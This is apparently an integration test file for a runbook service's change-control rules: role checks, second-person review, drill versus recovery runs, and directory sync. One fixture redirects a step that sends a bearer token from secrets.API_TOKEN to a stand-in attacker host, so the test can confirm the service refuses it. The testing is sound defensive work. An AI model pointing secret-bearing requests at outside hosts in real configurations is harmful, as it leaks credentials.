import { randomUUID } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { stringify } from 'yaml';
import { getRunbook } from '../../store/registry';
import { syncRunbooks } from '../../store/sync';
import { apiClient } from '../harness/http';
import { startTestLifeboat } from '../harness/lifeboat';
import { tokenWith } from '../harness/tokens';
import { waitFor } from '../harness/wait';
import { apiWith, isProblem } from './api';

let lb: Awaited<ReturnType<typeof startTestLifeboat>>;
let reviewed: { url: string; stop: () => Promise<void> };

beforeAll(async () => {
  lb = await startTestLifeboat();
  reviewed = await apiWith(lb, { runbookReview: 'required' });
});
afterAll(async () => {
  await reviewed?.stop();
  await lb?.stop();
});

const yamlType = { 'content-type': 'application/yaml' };
const wait = { id: 'pause', action: 'wait', with: { duration: '1s' } };
const command = { id: 'restart', action: 'command', with: { argv: ['systemctl', 'restart', 'db'] } };
const withSecret = { id: 'call', action: 'http', with: { url: 'https://api.example.com/failover', headers: { Authorization: 'Bearer {{ secrets.API_TOKEN }}' } } };
const source = (id: string, steps: unknown[]) => stringify({ id, title: 'Change control', steps });

function causes(err: unknown): string {
  const messages: string[] = [];
  for (let e: unknown = err; e instanceof Error; e = e.cause) messages.push(e.message);
  return messages.join(' <- ');
}

async function person(url: string, roles: string[]) {
  const subject = `${roles.join('-')}-${randomUUID().slice(0, 8)}`;
  const { token } = await tokenWith(lb, roles, subject);
  return { subject, api: apiClient(url, { authorization: `Bearer ${token}` }) };
}

describe('runbook change control (LIFEBOAT_RUNBOOK_REVIEW=admin, the default)', () => {
  it("refuses an author's upload that adds a command step, naming the rule", async () => {
    const author = await person(lb.url, ['author']);
    const id = `cc-${randomUUID().slice(0, 8)}`;
    expect((await author.api.post('/runbooks', source(id, [wait]), yamlType)).status).toBe(201);
    const res = await author.api.post('/runbooks', source(id, [wait, command]), yamlType);
    expect(isProblem(res, 403)).toBe(true);
    expect(res.body.detail).toContain("step 'restart' runs a command and is new");
    expect(res.body.detail).toContain('LIFEBOAT_RUNBOOK_REVIEW=admin');
  });

  it("refuses an author's upload that adds a secret reference, or changes where a step sends one", async () => {
    const admin = await person(lb.url, ['admin']);
    const author = await person(lb.url, ['author']);
    const id = `cc-${randomUUID().slice(0, 8)}`;
    expect(isProblem(await author.api.post('/runbooks', source(id, [withSecret]), yamlType), 403)).toBe(true);
    const stored = await admin.api.post('/runbooks', source(id, [withSecret]), yamlType);
    expect(stored.status).toBe(201);
    expect(stored.body).toMatchObject({ uploadedBy: admin.subject, reviewNeeded: false, changes: ["step 'call' references secrets.API_TOKEN and is new"] });
    const elsewhere = { ...withSecret, with: { ...withSecret.with, url: 'https://attacker.example.net/' } };
    const res = await author.api.post('/runbooks', source(id, [elsewhere]), yamlType);
    expect(isProblem(res, 403)).toBe(true);
    expect(res.body.detail).toContain("step 'call' references secrets.API_TOKEN and is changed");
  });

  it('lets an author change the steps that run no command and send no secret', async () => {
    const admin = await person(lb.url, ['admin']);
    const author = await person(lb.url, ['author']);
    const id = `cc-${randomUUID().slice(0, 8)}`;
    expect((await admin.api.post('/runbooks', source(id, [wait, command]), yamlType)).status).toBe(201);
    const res = await author.api.post('/runbooks', source(id, [{ ...wait, with: { duration: '5s' } }, command]), yamlType);
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ version: 2, uploadedBy: author.subject, changes: [], reviewNeeded: false });
  });
});

describe('runbook change control (LIFEBOAT_RUNBOOK_REVIEW=required)', () => {
  it('runs an unreviewed command change in drills only, until someone other than the uploader reviews it', async () => {
    const alice = await person(reviewed.url, ['author', 'operator']);
    const bob = await person(reviewed.url, ['author']);
    const carol = await person(reviewed.url, ['author']);
    const id = `cc-${randomUUID().slice(0, 8)}`;
    const up = await alice.api.post('/runbooks', source(id, [wait, command]), yamlType);
    expect(up.status).toBe(201);
    expect(up.body).toMatchObject({ uploadedBy: alice.subject, reviewNeeded: true, changes: ["step 'restart' runs a command and is new"] });

    const refused = await alice.api.post('/runs', { runbook: id, mode: 'recovery' });
    expect(isProblem(refused, 403)).toBe(true);
    expect(refused.body.detail).toContain('LIFEBOAT_RUNBOOK_REVIEW=required');
    expect(refused.body.detail).toContain(`POST /runbooks/${id}/versions/1/review`);
    const drill = await alice.api.post('/runs', { runbook: id, mode: 'drill' });
    expect(drill.status).toBe(201);
    await lb.client.workflow.getHandle(drill.body.runId).terminate('test over');

    const own = await alice.api.post(`/runbooks/${id}/versions/1/review`);
    expect(isProblem(own, 403)).toBe(true);
    expect(own.body.detail).toContain('cannot review it');

    const review = await bob.api.post(`/runbooks/${id}/versions/1/review`);
    expect(review.status).toBe(200);
    expect(review.body).toMatchObject({ version: 1, uploadedBy: alice.subject, reviewNeeded: true, review: { by: bob.subject, at: expect.any(String) } });
    expect((await carol.api.get(`/runbooks/${id}?version=1`)).body).toMatchObject({ uploadedBy: alice.subject, review: { by: bob.subject } });
    expect(isProblem(await carol.api.post(`/runbooks/${id}/versions/1/review`), 409)).toBe(true);

    const started = await alice.api.post('/runs', { runbook: id, mode: 'recovery' });
    expect(started.status).toBe(201);
    await lb.client.workflow.getHandle(started.body.runId).terminate('test over');
  });

  it('refuses to run an unreviewed sub-runbook from a recovery run', async () => {
    const alice = await person(reviewed.url, ['author', 'operator']);
    const child = `cc-child-${randomUUID().slice(0, 8)}`;
    const parent = `cc-parent-${randomUUID().slice(0, 8)}`;
    expect((await alice.api.post('/runbooks', source(child, [command]), yamlType)).body.reviewNeeded).toBe(true);
    const up = await alice.api.post('/runbooks', source(parent, [{ id: 'sub', action: 'runbook', with: { runbook: child } }]), yamlType);
    expect(up.body).toMatchObject({ reviewNeeded: false, changes: [] });
    const started = await alice.api.post('/runs', { runbook: parent, mode: 'recovery' });
    expect(started.status).toBe(201);
    const run = await waitFor(
      'the parent run to end',
      async () => (await alice.api.get(`/runs/${started.body.runId}`)).body,
      (r) => ['failed', 'succeeded', 'aborted'].includes(r.status),
      60_000,
    );
    expect(run.status).toBe('failed');
    const failure = await lb.client.workflow
      .getHandle(`${started.body.runId}.sub.1`)
      .result()
      .then(
        () => 'the sub-runbook ran',
        (err: unknown) => causes(err),
      );
    expect(failure).toContain('recovery mode runs it only after a second person reviews it');
  });

  it('records a runbooks/ directory sync as an admin upload that needs no review', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'lifeboat-cc-'));
    const id = `cc-dir-${randomUUID().slice(0, 8)}`;
    writeFileSync(path.join(dir, `${id}.yaml`), source(id, [command]));
    await syncRunbooks(lb.store.db, dir);
    expect(await getRunbook(lb.store.db, id)).toMatchObject({ uploadedBy: 'runbooks/ directory', reviewNeeded: false });
  });
});
